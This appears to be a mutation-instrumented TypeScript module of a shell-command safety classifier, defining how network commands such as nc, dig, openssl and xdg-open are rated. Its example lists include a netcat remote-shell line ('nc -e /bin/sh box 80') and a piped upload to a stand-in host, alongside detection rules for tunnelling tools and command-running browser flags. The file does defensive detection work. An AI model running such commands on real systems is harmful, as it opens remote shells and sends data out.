/** Asking other machines, and plain connections. */
// @ts-nocheck
function stryNS_9fa48() {
  var g = typeof globalThis === 'object' && globalThis && globalThis.Math === Math && globalThis || new Function("return this")();
  var ns = g.__stryker__ || (g.__stryker__ = {});
  if (ns.activeMutant === undefined && g.process && g.process.env && g.process.env.__STRYKER_ACTIVE_MUTANT__) {
    ns.activeMutant = g.process.env.__STRYKER_ACTIVE_MUTANT__;
  }
  function retrieveNS() {
    return ns;
  }
  stryNS_9fa48 = retrieveNS;
  return retrieveNS();
}
stryNS_9fa48();
function stryCov_9fa48() {
  var ns = stryNS_9fa48();
  var cov = ns.mutantCoverage || (ns.mutantCoverage = {
    static: {},
    perTest: {}
  });
  function cover() {
    var c = cov.static;
    if (ns.currentTestId) {
      c = cov.perTest[ns.currentTestId] = cov.perTest[ns.currentTestId] || {};
    }
    var a = arguments;
    for (var i = 0; i < a.length; i++) {
      c[a[i]] = (c[a[i]] || 0) + 1;
    }
  }
  stryCov_9fa48 = cover;
  cover.apply(null, arguments);
}
function stryMutAct_9fa48(id) {
  var ns = stryNS_9fa48();
  function isActive(id) {
    if (ns.activeMutant === id) {
      if (ns.hitCount !== void 0 && ++ns.hitCount > ns.hitLimit) {
        throw new Error('Stryker: Hit count limit reached (' + ns.hitCount + ')');
      }
      return true;
    }
    return false;
  }
  stryMutAct_9fa48 = isActive;
  return isActive(id);
}
import { literal } from '../arg.ts';
import type { Call } from '../call.ts';
import { weighVariable } from '../environment.ts';
import type { Flags } from '../grammar.ts';
import { type CommandSpec, words } from '../spec.ts';
const asks = (names: string, flags: Flags = {}): CommandSpec => {
  if (stryMutAct_9fa48("7497")) {
    {}
  } else {
    stryCov_9fa48("7497");
    const all = names.split(stryMutAct_9fa48("7498") ? "" : (stryCov_9fa48("7498"), ' '));
    return stryMutAct_9fa48("7499") ? {} : (stryCov_9fa48("7499"), {
      names: all,
      flags,
      operands: stryMutAct_9fa48("7500") ? [] : (stryCov_9fa48("7500"), [stryMutAct_9fa48("7501") ? "" : (stryCov_9fa48("7501"), '...host')]),
      examples: stryMutAct_9fa48("7502") ? [] : (stryCov_9fa48("7502"), [stryMutAct_9fa48("7503") ? [] : (stryCov_9fa48("7503"), [stryMutAct_9fa48("7504") ? `` : (stryCov_9fa48("7504"), `${all[0]} example.org`), stryMutAct_9fa48("7505") ? "" : (stryCov_9fa48("7505"), 'safe')])])
    });
  }
};
const judgeNc = (call: Call): void => {
  if (stryMutAct_9fa48("7506")) {
    {}
  } else {
    stryCov_9fa48("7506");
    if (stryMutAct_9fa48("7508") ? false : stryMutAct_9fa48("7507") ? true : (stryCov_9fa48("7507", "7508"), call.has(stryMutAct_9fa48("7509") ? "" : (stryCov_9fa48("7509"), '-e'), stryMutAct_9fa48("7510") ? "" : (stryCov_9fa48("7510"), '-c'), stryMutAct_9fa48("7511") ? "" : (stryCov_9fa48("7511"), '--exec'), stryMutAct_9fa48("7512") ? "" : (stryCov_9fa48("7512"), '--sh-exec'), stryMutAct_9fa48("7513") ? "" : (stryCov_9fa48("7513"), '--lua-exec')))) call.mark(stryMutAct_9fa48("7515") ? "" : (stryCov_9fa48("7515"), 'remote-shell'));
    if (stryMutAct_9fa48("7517") ? false : stryMutAct_9fa48("7516") ? true : (stryCov_9fa48("7516", "7517"), call.has(stryMutAct_9fa48("7518") ? "" : (stryCov_9fa48("7518"), '-l'), stryMutAct_9fa48("7519") ? "" : (stryCov_9fa48("7519"), '--listen')))) call.mark(stryMutAct_9fa48("7521") ? "" : (stryCov_9fa48("7521"), 'listen'));else if (stryMutAct_9fa48("7524") ? !call.has('-z') && call.scope.stdin.kind !== 'own' || !(call.scope.stdin.kind === 'text' && call.scope.stdin.text === '') : stryMutAct_9fa48("7523") ? false : stryMutAct_9fa48("7522") ? true : (stryCov_9fa48("7522", "7523", "7524"), (stryMutAct_9fa48("7526") ? !call.has('-z') || call.scope.stdin.kind !== 'own' : stryMutAct_9fa48("7525") ? true : (stryCov_9fa48("7525", "7526"), (stryMutAct_9fa48("7527") ? call.has('-z') : (stryCov_9fa48("7527"), !call.has(stryMutAct_9fa48("7528") ? "" : (stryCov_9fa48("7528"), '-z')))) && (stryMutAct_9fa48("7530") ? call.scope.stdin.kind === 'own' : stryMutAct_9fa48("7529") ? true : (stryCov_9fa48("7529", "7530"), call.scope.stdin.kind !== (stryMutAct_9fa48("7531") ? "" : (stryCov_9fa48("7531"), 'own')))))) && (stryMutAct_9fa48("7532") ? call.scope.stdin.kind === 'text' && call.scope.stdin.text === '' : (stryCov_9fa48("7532"), !(stryMutAct_9fa48("7535") ? call.scope.stdin.kind === 'text' || call.scope.stdin.text === '' : stryMutAct_9fa48("7534") ? false : stryMutAct_9fa48("7533") ? true : (stryCov_9fa48("7533", "7534", "7535"), (stryMutAct_9fa48("7537") ? call.scope.stdin.kind !== 'text' : stryMutAct_9fa48("7536") ? true : (stryCov_9fa48("7536", "7537"), call.scope.stdin.kind === (stryMutAct_9fa48("7538") ? "" : (stryCov_9fa48("7538"), 'text')))) && (stryMutAct_9fa48("7540") ? call.scope.stdin.text !== '' : stryMutAct_9fa48("7539") ? true : (stryCov_9fa48("7539", "7540"), call.scope.stdin.text === (stryMutAct_9fa48("7541") ? "Stryker was here!" : (stryCov_9fa48("7541"), '')))))))))) call.mark(stryMutAct_9fa48("7543") ? "" : (stryCov_9fa48("7543"), 'upload'));else if (stryMutAct_9fa48("7546") ? false : stryMutAct_9fa48("7545") ? true : stryMutAct_9fa48("7544") ? call.has('-z') : (stryCov_9fa48("7544", "7545", "7546"), !call.has(stryMutAct_9fa48("7547") ? "" : (stryCov_9fa48("7547"), '-z')))) call.unknown(stryMutAct_9fa48("7549") ? "" : (stryCov_9fa48("7549"), 'an open connection'));
  }
};

/** Names that a desktop starts as programs. */
const STARTS = stryMutAct_9fa48("7550") ? /\.(?:desktop|command|tool|app|sh|bash|py|pl|jar|run|appimage|workflow|scpt)/i : (stryCov_9fa48("7550"), /\.(?:desktop|command|tool|app|sh|bash|py|pl|jar|run|appimage|workflow|scpt)$/i);
export const network: readonly CommandSpec[] = stryMutAct_9fa48("7551") ? [] : (stryCov_9fa48("7551"), [stryMutAct_9fa48("7552") ? {} : (stryCov_9fa48("7552"), {
  names: stryMutAct_9fa48("7553") ? [] : (stryCov_9fa48("7553"), [stryMutAct_9fa48("7554") ? "" : (stryCov_9fa48("7554"), 'whois')]),
  flags: stryMutAct_9fa48("7555") ? {} : (stryCov_9fa48("7555"), {
    '-h --host -p --port': stryMutAct_9fa48("7556") ? {} : (stryCov_9fa48("7556"), {
      value: stryMutAct_9fa48("7557") ? "" : (stryCov_9fa48("7557"), 'none'),
      does: stryMutAct_9fa48("7558") ? [] : (stryCov_9fa48("7558"), [stryMutAct_9fa48("7559") ? "" : (stryCov_9fa48("7559"), 'network'), stryMutAct_9fa48("7560") ? "" : (stryCov_9fa48("7560"), '!upload')])
    })
  }),
  operands: stryMutAct_9fa48("7561") ? [] : (stryCov_9fa48("7561"), [stryMutAct_9fa48("7562") ? "" : (stryCov_9fa48("7562"), '...host')]),
  examples: stryMutAct_9fa48("7563") ? [] : (stryCov_9fa48("7563"), [stryMutAct_9fa48("7564") ? [] : (stryCov_9fa48("7564"), [stryMutAct_9fa48("7565") ? "" : (stryCov_9fa48("7565"), 'whois example.org'), stryMutAct_9fa48("7566") ? "" : (stryCov_9fa48("7566"), 'safe')]), stryMutAct_9fa48("7567") ? [] : (stryCov_9fa48("7567"), [stryMutAct_9fa48("7568") ? "" : (stryCov_9fa48("7568"), 'whois -h box a'), stryMutAct_9fa48("7569") ? "" : (stryCov_9fa48("7569"), 'dangerous')])])
}), asks(stryMutAct_9fa48("7570") ? "" : (stryCov_9fa48("7570"), 'ping ping6 arping'), stryMutAct_9fa48("7571") ? {} : (stryCov_9fa48("7571"), {
  '-c -i -W -w -s -t -p -I -M -m -l -S -Q': stryMutAct_9fa48("7572") ? "" : (stryCov_9fa48("7572"), 'none')
})), asks(stryMutAct_9fa48("7573") ? "" : (stryCov_9fa48("7573"), 'traceroute traceroute6 tracepath mtr nslookup host'), stryMutAct_9fa48("7574") ? {} : (stryCov_9fa48("7574"), {
  '-c -i -W -w -s -t -p -q -I -m -f -N -R': stryMutAct_9fa48("7575") ? "" : (stryCov_9fa48("7575"), 'none')
})), stryMutAct_9fa48("7576") ? {} : (stryCov_9fa48("7576"), {
  names: stryMutAct_9fa48("7577") ? [] : (stryCov_9fa48("7577"), [stryMutAct_9fa48("7578") ? "" : (stryCov_9fa48("7578"), 'dig'), stryMutAct_9fa48("7579") ? "" : (stryCov_9fa48("7579"), 'drill'), stryMutAct_9fa48("7580") ? "" : (stryCov_9fa48("7580"), 'kdig'), stryMutAct_9fa48("7581") ? "" : (stryCov_9fa48("7581"), 'delv'), stryMutAct_9fa48("7582") ? "" : (stryCov_9fa48("7582"), 'fping')]),
  flags: stryMutAct_9fa48("7583") ? {} : (stryCov_9fa48("7583"), {
    '-f --file': stryMutAct_9fa48("7584") ? {} : (stryCov_9fa48("7584"), {
      value: stryMutAct_9fa48("7585") ? "" : (stryCov_9fa48("7585"), 'read'),
      does: stryMutAct_9fa48("7586") ? [] : (stryCov_9fa48("7586"), [stryMutAct_9fa48("7587") ? "" : (stryCov_9fa48("7587"), '!upload')])
    }),
    '-t -c -p -b -k -y -q -i -r': stryMutAct_9fa48("7588") ? "" : (stryCov_9fa48("7588"), 'none')
  }),
  operands: stryMutAct_9fa48("7589") ? [] : (stryCov_9fa48("7589"), [stryMutAct_9fa48("7590") ? "" : (stryCov_9fa48("7590"), '...host')]),
  examples: stryMutAct_9fa48("7591") ? [] : (stryCov_9fa48("7591"), [stryMutAct_9fa48("7592") ? [] : (stryCov_9fa48("7592"), [stryMutAct_9fa48("7593") ? "" : (stryCov_9fa48("7593"), 'dig +short example.org'), stryMutAct_9fa48("7594") ? "" : (stryCov_9fa48("7594"), 'safe')]), stryMutAct_9fa48("7595") ? [] : (stryCov_9fa48("7595"), [stryMutAct_9fa48("7596") ? "" : (stryCov_9fa48("7596"), 'dig -f names.txt'), stryMutAct_9fa48("7597") ? "" : (stryCov_9fa48("7597"), 'dangerous')])])
}), stryMutAct_9fa48("7598") ? {} : (stryCov_9fa48("7598"), {
  names: stryMutAct_9fa48("7599") ? [] : (stryCov_9fa48("7599"), [stryMutAct_9fa48("7600") ? "" : (stryCov_9fa48("7600"), 'nc'), stryMutAct_9fa48("7601") ? "" : (stryCov_9fa48("7601"), 'ncat'), stryMutAct_9fa48("7602") ? "" : (stryCov_9fa48("7602"), 'netcat'), stryMutAct_9fa48("7603") ? "" : (stryCov_9fa48("7603"), 'nc.traditional'), stryMutAct_9fa48("7604") ? "" : (stryCov_9fa48("7604"), 'nc.openbsd')]),
  flags: stryMutAct_9fa48("7605") ? {} : (stryCov_9fa48("7605"), {
    '-w -p -s -i -q -X -x': stryMutAct_9fa48("7606") ? "" : (stryCov_9fa48("7606"), 'none'),
    '-e -c --exec --sh-exec --lua-exec': stryMutAct_9fa48("7607") ? "" : (stryCov_9fa48("7607"), 'unknown')
  }),
  operands: stryMutAct_9fa48("7608") ? [] : (stryCov_9fa48("7608"), [stryMutAct_9fa48("7609") ? "" : (stryCov_9fa48("7609"), 'host'), stryMutAct_9fa48("7610") ? "" : (stryCov_9fa48("7610"), 'none')]),
  judge: judgeNc,
  examples: stryMutAct_9fa48("7611") ? [] : (stryCov_9fa48("7611"), [stryMutAct_9fa48("7612") ? [] : (stryCov_9fa48("7612"), [stryMutAct_9fa48("7613") ? "" : (stryCov_9fa48("7613"), 'nc -z box 80'), stryMutAct_9fa48("7614") ? "" : (stryCov_9fa48("7614"), 'safe')]), stryMutAct_9fa48("7615") ? [] : (stryCov_9fa48("7615"), [stryMutAct_9fa48("7616") ? "" : (stryCov_9fa48("7616"), 'nc -l 80'), stryMutAct_9fa48("7617") ? "" : (stryCov_9fa48("7617"), 'dangerous')]), stryMutAct_9fa48("7618") ? [] : (stryCov_9fa48("7618"), [stryMutAct_9fa48("7619") ? "" : (stryCov_9fa48("7619"), 'nc -e /bin/sh box 80'), stryMutAct_9fa48("7620") ? "" : (stryCov_9fa48("7620"), 'opaque')]), stryMutAct_9fa48("7621") ? [] : (stryCov_9fa48("7621"), [stryMutAct_9fa48("7622") ? "" : (stryCov_9fa48("7622"), 'cat a | nc box 80'), stryMutAct_9fa48("7623") ? "" : (stryCov_9fa48("7623"), 'dangerous')])])
}), stryMutAct_9fa48("7624") ? {} : (stryCov_9fa48("7624"), {
  names: words(stryMutAct_9fa48("7625") ? "" : (stryCov_9fa48("7625"), 'socat telnet ftp lftp tftp smbclient ncftp nmap masscan hping3 tcpdump tshark ngrep chisel ngrok cloudflared sshfs mail mailx sendmail mutt swaks gost frpc')),
  does: stryMutAct_9fa48("7626") ? [] : (stryCov_9fa48("7626"), [stryMutAct_9fa48("7627") ? "" : (stryCov_9fa48("7627"), 'network'), stryMutAct_9fa48("7628") ? "" : (stryCov_9fa48("7628"), 'unknown')]),
  examples: stryMutAct_9fa48("7629") ? [] : (stryCov_9fa48("7629"), [stryMutAct_9fa48("7630") ? [] : (stryCov_9fa48("7630"), [stryMutAct_9fa48("7631") ? "" : (stryCov_9fa48("7631"), 'socat a b'), stryMutAct_9fa48("7632") ? "" : (stryCov_9fa48("7632"), 'opaque')]), stryMutAct_9fa48("7633") ? [] : (stryCov_9fa48("7633"), [stryMutAct_9fa48("7634") ? "" : (stryCov_9fa48("7634"), 'telnet box'), stryMutAct_9fa48("7635") ? "" : (stryCov_9fa48("7635"), 'opaque')])])
}), stryMutAct_9fa48("7636") ? {} : (stryCov_9fa48("7636"), {
  names: stryMutAct_9fa48("7637") ? [] : (stryCov_9fa48("7637"), [stryMutAct_9fa48("7638") ? "" : (stryCov_9fa48("7638"), 'openssl')]),
  subcommands: stryMutAct_9fa48("7639") ? {} : (stryCov_9fa48("7639"), {
    s_client: stryMutAct_9fa48("7640") ? {} : (stryCov_9fa48("7640"), {
      style: stryMutAct_9fa48("7641") ? "" : (stryCov_9fa48("7641"), 'long'),
      flags: stryMutAct_9fa48("7642") ? {} : (stryCov_9fa48("7642"), {
        '-connect -servername -starttls -CAfile -proxy': stryMutAct_9fa48("7643") ? "" : (stryCov_9fa48("7643"), 'host')
      }),
      does: stryMutAct_9fa48("7644") ? [] : (stryCov_9fa48("7644"), [stryMutAct_9fa48("7645") ? "" : (stryCov_9fa48("7645"), 'network')]),
      judge: call => {
        if (stryMutAct_9fa48("7646")) {
          {}
        } else {
          stryCov_9fa48("7646");
          if (stryMutAct_9fa48("7649") ? call.scope.stdin.kind === 'pipe' && call.scope.stdin.kind === 'file' : stryMutAct_9fa48("7648") ? false : stryMutAct_9fa48("7647") ? true : (stryCov_9fa48("7647", "7648", "7649"), (stryMutAct_9fa48("7651") ? call.scope.stdin.kind !== 'pipe' : stryMutAct_9fa48("7650") ? false : (stryCov_9fa48("7650", "7651"), call.scope.stdin.kind === (stryMutAct_9fa48("7652") ? "" : (stryCov_9fa48("7652"), 'pipe')))) || (stryMutAct_9fa48("7654") ? call.scope.stdin.kind !== 'file' : stryMutAct_9fa48("7653") ? false : (stryCov_9fa48("7653", "7654"), call.scope.stdin.kind === (stryMutAct_9fa48("7655") ? "" : (stryCov_9fa48("7655"), 'file')))))) call.mark(stryMutAct_9fa48("7657") ? "" : (stryCov_9fa48("7657"), 'upload'));
        }
      }
    }),
    x509: stryMutAct_9fa48("7658") ? {} : (stryCov_9fa48("7658"), {
      style: stryMutAct_9fa48("7659") ? "" : (stryCov_9fa48("7659"), 'long'),
      flags: stryMutAct_9fa48("7660") ? {} : (stryCov_9fa48("7660"), {
        '-in': stryMutAct_9fa48("7661") ? "" : (stryCov_9fa48("7661"), 'read'),
        '-out': stryMutAct_9fa48("7662") ? "" : (stryCov_9fa48("7662"), 'write')
      })
    }),
    version: {},
    ciphers: {},
    rand: stryMutAct_9fa48("7663") ? {} : (stryCov_9fa48("7663"), {
      style: stryMutAct_9fa48("7664") ? "" : (stryCov_9fa48("7664"), 'long'),
      flags: stryMutAct_9fa48("7665") ? {} : (stryCov_9fa48("7665"), {
        '-out': stryMutAct_9fa48("7666") ? "" : (stryCov_9fa48("7666"), 'write')
      })
    }),
    passwd: {},
    dgst: stryMutAct_9fa48("7667") ? {} : (stryCov_9fa48("7667"), {
      style: stryMutAct_9fa48("7668") ? "" : (stryCov_9fa48("7668"), 'long'),
      flags: stryMutAct_9fa48("7669") ? {} : (stryCov_9fa48("7669"), {
        '-out': stryMutAct_9fa48("7670") ? "" : (stryCov_9fa48("7670"), 'write'),
        '-engine -provider-path': stryMutAct_9fa48("7671") ? "" : (stryCov_9fa48("7671"), 'unknown')
      }),
      operands: stryMutAct_9fa48("7672") ? [] : (stryCov_9fa48("7672"), [stryMutAct_9fa48("7673") ? "" : (stryCov_9fa48("7673"), '...read')])
    }),
    enc: stryMutAct_9fa48("7674") ? {} : (stryCov_9fa48("7674"), {
      style: stryMutAct_9fa48("7675") ? "" : (stryCov_9fa48("7675"), 'long'),
      flags: stryMutAct_9fa48("7676") ? {} : (stryCov_9fa48("7676"), {
        '-in': stryMutAct_9fa48("7677") ? "" : (stryCov_9fa48("7677"), 'read'),
        '-out': stryMutAct_9fa48("7678") ? "" : (stryCov_9fa48("7678"), 'write'),
        '-k -K -iv -pass -S -kfile': stryMutAct_9fa48("7679") ? "" : (stryCov_9fa48("7679"), 'none'),
        '-engine -provider-path': stryMutAct_9fa48("7680") ? "" : (stryCov_9fa48("7680"), 'unknown')
      })
    }),
    verify: stryMutAct_9fa48("7681") ? {} : (stryCov_9fa48("7681"), {
      style: stryMutAct_9fa48("7682") ? "" : (stryCov_9fa48("7682"), 'long'),
      flags: stryMutAct_9fa48("7683") ? {} : (stryCov_9fa48("7683"), {
        '-CAfile': stryMutAct_9fa48("7684") ? "" : (stryCov_9fa48("7684"), 'read')
      }),
      operands: stryMutAct_9fa48("7685") ? [] : (stryCov_9fa48("7685"), [stryMutAct_9fa48("7686") ? "" : (stryCov_9fa48("7686"), '...read')])
    }),
    req: stryMutAct_9fa48("7687") ? {} : (stryCov_9fa48("7687"), {
      style: stryMutAct_9fa48("7688") ? "" : (stryCov_9fa48("7688"), 'long'),
      flags: stryMutAct_9fa48("7689") ? {} : (stryCov_9fa48("7689"), {
        '-in -config': stryMutAct_9fa48("7690") ? "" : (stryCov_9fa48("7690"), 'read'),
        '-out -keyout': stryMutAct_9fa48("7691") ? "" : (stryCov_9fa48("7691"), 'write'),
        '-engine': stryMutAct_9fa48("7692") ? "" : (stryCov_9fa48("7692"), 'unknown'),
        '-subj -newkey -days': stryMutAct_9fa48("7693") ? "" : (stryCov_9fa48("7693"), 'none')
      })
    }),
    genrsa: stryMutAct_9fa48("7694") ? {} : (stryCov_9fa48("7694"), {
      style: stryMutAct_9fa48("7695") ? "" : (stryCov_9fa48("7695"), 'long'),
      flags: stryMutAct_9fa48("7696") ? {} : (stryCov_9fa48("7696"), {
        '-out': stryMutAct_9fa48("7697") ? "" : (stryCov_9fa48("7697"), 'write')
      })
    }),
    genpkey: stryMutAct_9fa48("7698") ? {} : (stryCov_9fa48("7698"), {
      style: stryMutAct_9fa48("7699") ? "" : (stryCov_9fa48("7699"), 'long'),
      flags: stryMutAct_9fa48("7700") ? {} : (stryCov_9fa48("7700"), {
        '-out': stryMutAct_9fa48("7701") ? "" : (stryCov_9fa48("7701"), 'write')
      })
    })
  }),
  examples: stryMutAct_9fa48("7702") ? [] : (stryCov_9fa48("7702"), [stryMutAct_9fa48("7703") ? [] : (stryCov_9fa48("7703"), [stryMutAct_9fa48("7704") ? "" : (stryCov_9fa48("7704"), 'openssl s_client -connect example.org:443'), stryMutAct_9fa48("7705") ? "" : (stryCov_9fa48("7705"), 'safe')]), stryMutAct_9fa48("7706") ? [] : (stryCov_9fa48("7706"), [stryMutAct_9fa48("7707") ? "" : (stryCov_9fa48("7707"), 'openssl x509 -in a.crt -noout'), stryMutAct_9fa48("7708") ? "" : (stryCov_9fa48("7708"), 'safe')]), stryMutAct_9fa48("7709") ? [] : (stryCov_9fa48("7709"), [stryMutAct_9fa48("7710") ? "" : (stryCov_9fa48("7710"), 'openssl enc -d -base64 -in a'), stryMutAct_9fa48("7711") ? "" : (stryCov_9fa48("7711"), 'safe')]), stryMutAct_9fa48("7712") ? [] : (stryCov_9fa48("7712"), [stryMutAct_9fa48("7713") ? "" : (stryCov_9fa48("7713"), 'openssl s_server -port 1'), stryMutAct_9fa48("7714") ? "" : (stryCov_9fa48("7714"), 'opaque')])])
}), stryMutAct_9fa48("7715") ? {} : (stryCov_9fa48("7715"), {
  names: words(stryMutAct_9fa48("7716") ? "" : (stryCov_9fa48("7716"), 'xdg-open open start sensible-browser firefox google-chrome chromium gnome-open')),
  does: stryMutAct_9fa48("7717") ? [] : (stryCov_9fa48("7717"), [stryMutAct_9fa48("7718") ? "" : (stryCov_9fa48("7718"), 'write')]),
  operands: stryMutAct_9fa48("7719") ? [] : (stryCov_9fa48("7719"), [stryMutAct_9fa48("7720") ? "" : (stryCov_9fa48("7720"), '...none')]),
  judge: call => {
    if (stryMutAct_9fa48("7721")) {
      {}
    } else {
      stryCov_9fa48("7721");
      for (const arg of call.operands) {
        if (stryMutAct_9fa48("7722")) {
          {}
        } else {
          stryCov_9fa48("7722");
          if (stryMutAct_9fa48("7724") ? false : stryMutAct_9fa48("7723") ? true : (stryCov_9fa48("7723", "7724"), (stryMutAct_9fa48("7726") ? /^https:/ : stryMutAct_9fa48("7725") ? /https?:/ : (stryCov_9fa48("7725", "7726"), /^https?:/)).test(arg.text))) call.play(stryMutAct_9fa48("7728") ? "" : (stryCov_9fa48("7728"), 'url'), arg);
          if (stryMutAct_9fa48("7730") ? false : stryMutAct_9fa48("7729") ? true : (stryCov_9fa48("7729", "7730"), STARTS.test(arg.text))) call.unknown(stryMutAct_9fa48("7732") ? `` : (stryCov_9fa48("7732"), `${arg.text} is started`));
        }
      }
      for (const arg of call.args) if (stryMutAct_9fa48("7735") ? /^--(?:renderer-cmd-prefix|gpu-launcher|utility-cmd|load-extension|browser-subprocess)|^-a/.test(arg.text) || call.name !== 'open' : stryMutAct_9fa48("7734") ? false : stryMutAct_9fa48("7733") ? true : (stryCov_9fa48("7733", "7734", "7735"), (stryMutAct_9fa48("7737") ? /^--(?:renderer-cmd-prefix|gpu-launcher|utility-cmd|load-extension|browser-subprocess)|-a/ : stryMutAct_9fa48("7736") ? /--(?:renderer-cmd-prefix|gpu-launcher|utility-cmd|load-extension|browser-subprocess)|^-a/ : (stryCov_9fa48("7736", "7737"), /^--(?:renderer-cmd-prefix|gpu-launcher|utility-cmd|load-extension|browser-subprocess)|^-a/)).test(arg.text) && (stryMutAct_9fa48("7739") ? call.name === 'open' : stryMutAct_9fa48("7738") ? true : (stryCov_9fa48("7738", "7739"), call.name !== (stryMutAct_9fa48("7740") ? "" : (stryCov_9fa48("7740"), 'open')))))) call.unknown(stryMutAct_9fa48("7742") ? "" : (stryCov_9fa48("7742"), 'a browser flag that runs a command'));
      weighVariable(call, stryMutAct_9fa48("7744") ? "" : (stryCov_9fa48("7744"), 'BROWSER'), literal(stryMutAct_9fa48("7745") ? "Stryker was here!" : (stryCov_9fa48("7745"), '')));
    }
  },
  examples: stryMutAct_9fa48("7746") ? [] : (stryCov_9fa48("7746"), [stryMutAct_9fa48("7747") ? [] : (stryCov_9fa48("7747"), [stryMutAct_9fa48("7748") ? "" : (stryCov_9fa48("7748"), 'xdg-open a.pdf'), stryMutAct_9fa48("7749") ? "" : (stryCov_9fa48("7749"), 'write')]), stryMutAct_9fa48("7750") ? [] : (stryCov_9fa48("7750"), [stryMutAct_9fa48("7751") ? "" : (stryCov_9fa48("7751"), 'open a.command'), stryMutAct_9fa48("7752") ? "" : (stryCov_9fa48("7752"), 'opaque')])])
})]);